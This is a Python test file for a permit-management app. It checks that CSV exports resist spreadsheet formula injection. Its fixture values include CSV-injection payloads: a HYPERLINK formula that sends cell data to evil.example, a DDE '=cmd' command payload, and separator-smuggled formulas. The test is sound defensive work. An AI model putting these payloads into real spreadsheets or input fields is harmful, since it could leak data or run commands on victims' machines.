"""Issue 14, CSV exports: text that others typed (addresses, owners, reasons, procedure titles)
cannot run as a formula when the supervisors' list or gen's manifest.csv is opened in Excel or
LibreOffice, whichever list separator the spreadsheet uses.

Each export is read as a spreadsheet would read it, with ',' and again with ';' as the
separator (Python's csv, which splits and unquotes as they do), and no cell may start with
=, +, -, @ (also after spaces, or their full-width forms), a tab or a line break; the values
come back, apostrophes aside, as they were typed.
"""

import csv
import io
import os
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mc  # noqa: E402

SLUG = mc.SLUG
PASSWORD = "mat-khau-giam-sat-14"
TRIGGERS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# What an attacker types into a permit (a ward's import) and a procedure title.
NASTY = {
    "address": '=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")',
    "owner_name": "Nguyễn Văn Bé;=1+1",
    "scope": 'Sửa mái, -2+3 tầng, "@SUM(A1:A9)"',
    "status_reason": '@SUM(1;2); =cmd|" /C calc"!A0',
}
NASTY2 = {
    "address": "12 Lê Lợi,+1+2",
    "owner_name": "\uff1d1+1 Trần",
    "scope": 'Xây mới;" =2*3"',
    "status_reason": "Đình chỉ, \"+84 909\"",
}
TITLES = ['=HYPERLINK("http://evil.example";"Khai sinh")', "Đăng ký;-1+1", "@Kết hôn, =2+2"]


def risky(cell):
    """Whether a spreadsheet would take this cell for a formula or a command."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    return cell.lstrip(" ").startswith(TRIGGERS)


def read(text, sep):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


class Exports(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.t = mc.TempDir()
        cls.db = mc.new_db(cls.t, "exports.db")
        cls.srv = None
        r = mc.run(["demo", "--db", cls.db])
        assert r.rc == 0, r
        rows = [mc.permit_row("900/GPXD-CSV", status="suspended", **NASTY),
                mc.permit_row("901/GPXD-CSV", status="suspended", **NASTY2)]
        path = mc.write_csv(cls.t.join("permits.csv"), mc.PERMIT_COLUMNS, rows)
        r = mc.run(["import", "--db", cls.db, "--ward", SLUG, path])
        assert r.rc == 0, r
        procs = [mc.procedure_row("9.%03d" % i, title) for i, title in enumerate(TITLES)]
        path = mc.write_csv(cls.t.join("procedures.csv"), mc.PROCEDURE_COLUMNS, procs)
        r = mc.run(["import", "--db", cls.db, "--ward", SLUG, path])
        assert r.rc == 0, r
        mc.add_user(cls.db, "giamsat", "supervisor", PASSWORD)
        cls.srv = mc.start_server_with_base(cls.db)

    @classmethod
    def tearDownClass(cls):
        try:
            if cls.srv:
                cls.srv.close()
        finally:
            cls.t.cleanup()

    def assert_inert(self, text, values):
        """No cell is a formula with either separator, and every value is there as typed."""
        for sep in (",", ";"):
            for row in read(text, sep):
                for cell in row:
                    self.assertFalse(risky(cell), "with %r a cell is a formula: %r" % (sep, cell))
        cells = {c.replace("'", "") for row in read(text, ",") for c in row}
        for v in values:
            self.assertIn(v.replace("'", ""), cells, "the value comes back as typed")

    def test_supervisor_list(self):
        held = mc.sql(self.db, "SELECT count(*) FROM permit WHERE number LIKE '90_/GPXD-CSV' "
                               "AND owner_name IN ('%s', '%s');"
                      % (NASTY["owner_name"], NASTY2["owner_name"]))
        self.assertEqual(held, "2", "the import took the values as they are")
        c = mc.Client(self.srv.port)
        form = mc.find_form(c.get("/staff/login").body, "/staff/login")
        r = c.post("/staff/login", {"name": "giamsat", "password": PASSWORD,
                                    "csrf": mc.form_value(form, "csrf")})
        self.assertEqual(r.status, 303, mc.describe(r))
        r = c.get("/supervise/permits?list=all&format=csv")
        self.assertEqual(r.status, 200, mc.describe(r))
        self.assertEqual(r.header("Content-Type"), "text/csv; charset=utf-8")
        text = r.body.decode("utf-8-sig")
        self.assertIn("900/GPXD-CSV", text)
        self.assert_inert(text, list(NASTY.values()) + list(NASTY2.values()))

    def test_gen_manifest(self):
        out = self.t.join("gen")
        r = mc.run(["gen", "--db", self.db, "--base-url", "http://127.0.0.1:8080",
                    "--kind", "procedure", "--format", "svg", "--out", out])
        self.assertEqual(r.rc, 0, r)
        with open(os.path.join(out, "manifest.csv"), encoding="utf-8", newline="") as f:
            text = f.read()
        self.assert_inert(text, TITLES)


if __name__ == "__main__":
    mc.main()
